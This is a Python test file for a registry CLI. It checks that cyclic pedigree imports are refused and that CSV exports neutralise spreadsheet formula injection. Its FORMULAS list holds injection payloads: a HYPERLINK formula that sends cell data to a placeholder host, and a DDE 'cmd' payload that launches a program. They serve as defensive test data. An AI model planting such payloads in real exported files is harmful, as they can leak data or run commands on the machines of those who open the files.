"""Integrity of the registry: what bad input cannot do, what rewriting history cannot hide."""

from __future__ import annotations

import time
from pathlib import Path

from click.testing import CliRunner
from sqlalchemy import Engine

from dogtag.cli import cli

from .factories import snapshot


def _invoke(*args: str):
    return CliRunner().invoke(cli, list(args))


def test_pedigree_cycle_import_is_refused(engine: Engine, db_url: str, tmp_path: Path) -> None:
    f = tmp_path / "p.csv"
    f.write_text("family,id,father,mother,sex,missing\nF1,R1,,,female,false\nF1,M1,M2,R1,male,true\n"
                 "F1,M2,M1,R1,male,false\nF2,X,,,female,false\nF2,S,S,X,male,false\n")
    before = snapshot(engine)
    _invoke("import", "pedigrees", str(f), "--database", db_url)  # warm up: the modules load once
    t0 = time.process_time()  # CPU time: the machine is shared, wall time measures the others
    res = _invoke("import", "pedigrees", str(f), "--database", db_url)
    assert time.process_time() - t0 < 1.0
    assert res.exit_code == 2, res.output
    assert "line 3, column family: family 'F1': pedigree has a cycle" in res.output
    assert "M1 -> M2 -> M1" in res.output
    assert "line 6, column family: family 'F2': members who are their own parent: S" in res.output
    assert snapshot(engine) == before


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "@SUM(1)", "-1+cmd|' /C calc'!A0", "+cmd",
            "\tTAB", "\rCR"]


def test_csv_exports_neutralise_formula_cells(engine: Engine, db_url: str, tmp_path: Path) -> None:
    import csv
    import io

    f = tmp_path / "m.csv"
    with open(f, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["SERVICE_NUMBER", "LAST_NAME", "BRANCH", "HOME_STATE", "CONFLICT", "BIRTH_YEAR"])
        w.writerow(["RA1", FORMULAS[0], FORMULAS[2], FORMULAS[3], FORMULAS[1], "1930"])
        w.writerow(["RA2", FORMULAS[4], "-5", "ARMY", "Korean War", "1931"])
    res = _invoke("import", "missing", str(f), "--database", db_url)
    assert res.exit_code == 0, res.output
    out = tmp_path / "export.csv"
    assert _invoke("export", "missing_person", "-o", str(out), "--database", db_url).exit_code == 0
    rows = {r["service_number"]: r for r in csv.DictReader(out.read_text("utf-8").splitlines())}
    assert rows["RA1"]["last_name"] == "'" + FORMULAS[0]
    assert rows["RA1"]["branch"] == "'" + FORMULAS[2]
    assert rows["RA1"]["home_state"] == "'" + FORMULAS[3]
    assert rows["RA2"]["branch"] == "-5"  # a plain number runs nothing and stays as it is
    assert rows["RA1"]["birth_year"] == "1930"
    stats_csv = tmp_path / "stats.csv"
    assert _invoke("stats", "--csv", str(stats_csv), "--database", db_url).exit_code == 0
    cells = [c for r in csv.reader(stats_csv.read_text("utf-8").splitlines()) for c in r]
    assert "'" + FORMULAS[1] in cells and "'" + FORMULAS[2] in cells and "'" + FORMULAS[3] in cells
    for path in (out, stats_csv):
        for row in csv.reader(io.StringIO(path.read_text("utf-8"), newline="")):
            assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in row), row
            assert not any(c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit() for c in row), row
